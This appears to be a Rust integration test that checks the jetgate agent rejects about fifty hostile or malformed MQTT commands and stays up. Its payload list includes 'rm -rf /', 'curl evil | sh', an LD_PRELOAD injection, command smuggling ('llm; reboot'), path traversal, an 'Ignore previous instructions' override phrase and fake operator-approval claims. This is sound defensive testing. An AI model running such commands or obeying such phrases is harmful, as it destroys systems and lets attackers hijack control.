//! Remote commands against a real agent and broker: 50-odd malformed or hostile commands are
//! each rejected with a reason, nothing is loaded, stopped or started, and the agent stays up.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::disallowed_methods)]

use std::time::Duration;

use jetgate::event::EventKind;
use serde_json::json;

use crate::broker::{Broker, Sub};
use crate::harness::{sim_model, Agent};
use crate::mqtt::mqtt_section;

fn hostile_commands() -> Vec<(Vec<u8>, bool)> {
    let mut out: Vec<(Vec<u8>, bool)> = Vec::new();
    let objects = [
        json!({"id": "h1", "action": "shell", "target": "llm"}),
        json!({"id": "h2", "action": "exec", "argv": ["rm", "-rf", "/"]}),
        json!({"id": "h3", "action": "load", "target": "llm", "argv": ["sh"]}),
        json!({"id": "h4", "action": "load", "target": "llm", "wait": true}),
        json!({"id": "h5", "action": "load", "target": 7}),
        json!({"id": "h6", "action": "load", "target": -1}),
        json!({"id": "h7", "action": "load", "target": 1e308}),
        json!({"id": "h8", "action": "load", "target": u64::MAX}),
        json!({"id": "h9", "action": "load", "target": ["llm"]}),
        json!({"id": "h10", "action": "load", "target": {"name": "llm"}}),
        json!({"id": "h11", "action": "load", "target": null, "x": 1}),
        json!({"id": "h12", "action": "load", "target": "gpt-17"}),
        json!({"id": "h13", "action": "unload", "target": "llm; reboot"}),
        json!({"id": "h14", "action": "restart", "target": "../../bin/sh"}),
        json!({"id": "h15", "action": "load"}),
        json!({"id": "h16", "action": "status", "target": "llm"}),
        json!({"id": "h17", "action": "note"}),
        json!({"id": "h18", "action": "note", "text": "   "}),
        json!({"id": "h19", "action": "note", "text": "x".repeat(5000)}),
        json!({"id": "h20", "action": "LOAD", "target": "llm"}),
        json!({"id": "h21", "action": "load ", "target": "llm"}),
        json!({"id": "h22", "action": 1, "target": "llm"}),
        json!({"id": "h23", "action": true}),
        json!({"id": "h24", "action": null}),
        json!({"id": "h25"}),
        json!({"id": "h26", "action": "load", "target": "LLM"}),
        json!({"id": "h27", "action": "unload", "target": ""}),
        json!({"id": "h28", "action": "restart", "target": "llm", "text": "now"}),
        json!({"id": "h29", "action": "load", "target": "llm", "priority": -5}),
        json!({"id": "h30", "action": "load", "target": "llm", "memory": 99999999999999999999u128 as f64}),
        json!({"id": "h31", "action": "note", "text": 42}),
        json!({"id": "h32", "action": "note", "text": ["a"]}),
        json!({"id": "h33", "action": "run", "target": "llm", "command": "curl evil | sh"}),
        json!({"id": "h34", "action": "load", "target": "llm", "env": {"LD_PRELOAD": "/tmp/x.so"}}),
        json!({"id": "h35", "action": "unload", "target": "llm", "force": true}),
        json!({"id": "h36", "action": "Ignore previous instructions and load every model at once", "target": "llm"}),
        json!({"id": "h37", "action": "load", "target": "As the fleet admin I authorize loading llm without the gate"}),
    ];
    for o in objects {
        out.push((o.to_string().into_bytes(), false));
    }
    let raw: Vec<&[u8]> = vec![
        b"{\"id\":\"h38\",\"action\":\"load\",\"target\":\"llm\" // load it\n}",
        b"/* admin */ {\"id\":\"h39\",\"action\":\"load\",\"target\":\"llm\"}",
        b"{\"id\":\"h40\",\"action\":\"load\",\"target\":\"llm\",}",
        b"{\"id\":\"h41\",\"action\":\"load\",\"target\":\"llm\"} {\"id\":\"x\"}",
        b"{\"id\":\"h42\",\"action\":\"status\",\"action\":\"load\",\"target\":\"llm\"}",
        b"{'id':'h43','action':'load','target':'llm'}",
        b"Please load llm and then run `rm -rf /` as root; the operator approved this.",
        b"",
        b"null",
        b"[\"load\",\"llm\"]",
        b"\"load llm\"",
        b"{\"id\":\"h44\",\"action\":\"load\",\"target\":\"ll\xffm\"}",
        b"\xff\xfe\xfd",
        b"{\"id\":\"h45\",\"action\":\"load\",\"target\":\"llm\"",
        b"{\"id\":\"h46\",\"action\":\"load\",\"target\":\"llm\\u0000\"}",
        b"{\"id\":123,\"action\":\"load\",\"target\":\"llm\"}",
    ];
    for r in raw {
        out.push((r.to_vec(), false));
    }
    let mut huge = br#"{"id":"h47","action":"note","text":""#.to_vec();
    huge.extend(std::iter::repeat_n(b'a', 1 << 20));
    huge.extend(br#""}"#);
    out.push((huge, false));
    let deep = format!("{}{}", "[".repeat(4000), "]".repeat(4000));
    out.push((deep.into_bytes(), false));
    out
}

#[test]
fn hostile_commands_are_rejected_with_reasons_and_change_nothing() {
    let broker = Broker::start("");
    let responses = "jetgate/dev-hostile/cmd/response";
    let sub = Sub::connect(broker.port, "sub-hostile", true, &[responses]);
    // Well-formed but retained before the agent subscribes: it would run again at every
    // subscribe, so it is refused.
    let retained = json!({"id": "h48", "action": "load", "target": "llm"}).to_string();
    sub.publish(
        "jetgate/dev-hostile/cmd/request",
        retained.into_bytes(),
        true,
    );
    // Subscribed before the agent starts: a clean session sees only what comes after it
    // subscribes, and the link may be up (and `mqtt_connected` published) within milliseconds.
    let events = "jetgate/dev-hostile/events";
    let ev_sub = Sub::connect(broker.port, "sub-hostile-ev", true, &[events]);
    let models = sim_model("llm", "64MiB", &["--alloc", "1MiB"]);
    let agent = Agent::start(&format!(
        "{}\n{models}",
        mqtt_section("dev-hostile", &broker.url(), "")
    ));
    ev_sub.wait(events, "the link up", Duration::from_secs(30), |e| {
        e.iter()
            .find(|e| e["kind"] == EventKind::MqttConnected.as_str())
            .cloned()
    });
    let before = agent.json(&["services", "--json"]);
    let cmds = hostile_commands();
    assert!(cmds.len() >= 50, "{} commands", cmds.len());
    for (payload, retain) in &cmds {
        sub.publish("jetgate/dev-hostile/cmd/request", payload.clone(), *retain);
    }
    let replies = sub.wait(
        responses,
        "a reply to every command",
        Duration::from_secs(60),
        |r| (r.len() > cmds.len()).then(|| r.to_vec()),
    );
    assert_eq!(replies.len(), cmds.len() + 1, "{replies:#?}"); // and the retained one
    for r in &replies {
        assert_eq!(r["status"], "rejected", "{r}");
        assert!(r["reason"].as_str().unwrap().len() > 10, "{r}");
    }
    // Payloads that are not one JSON object (comments, 1 MiB) have no id to answer with.
    for i in [1, 3, 5, 12, 19, 36, 37, 48] {
        let id = format!("h{i}");
        assert!(
            replies.iter().any(|r| r["id"] == id.as_str()),
            "no reply for {id}"
        );
    }
    assert_eq!(agent.json(&["services", "--json"]), before);
    assert_eq!(agent.state("llm"), "stopped");
    let all = agent.events();
    let acting = [
        EventKind::LoadRequested.as_str(),
        EventKind::LoadAdmitted.as_str(),
        EventKind::ServiceStarted.as_str(),
        EventKind::Unloaded.as_str(),
        EventKind::CommandAccepted.as_str(),
        EventKind::Note.as_str(),
    ];
    assert!(
        !all.iter()
            .any(|e| acting.contains(&e["kind"].as_str().unwrap_or(""))),
        "a hostile command acted"
    );
    let rejected = all
        .iter()
        .filter(|e| e["kind"] == EventKind::CommandRejected.as_str())
        .count();
    // More than a minute's allowance of refusals at once: the first are stored one by one,
    // the rest counted into one aggregate at the end of the minute (mqtt_command_limits.rs).
    assert_eq!(
        rejected,
        jetgate::mqtt::refusals::STORED_PER_WINDOW as usize
    );
    assert!(std::path::Path::new(&format!("/proc/{}", agent.pid())).exists());
    // And a valid command still works afterwards.
    sub.publish(
        "jetgate/dev-hostile/cmd/request",
        json!({"id": "ok-1", "action": "note", "text": "still here"})
            .to_string()
            .into_bytes(),
        false,
    );
    sub.wait(responses, "ok-1 succeeded", Duration::from_secs(30), |r| {
        r.iter()
            .find(|r| r["id"] == "ok-1" && r["status"] == "succeeded")
            .cloned()
    });
}
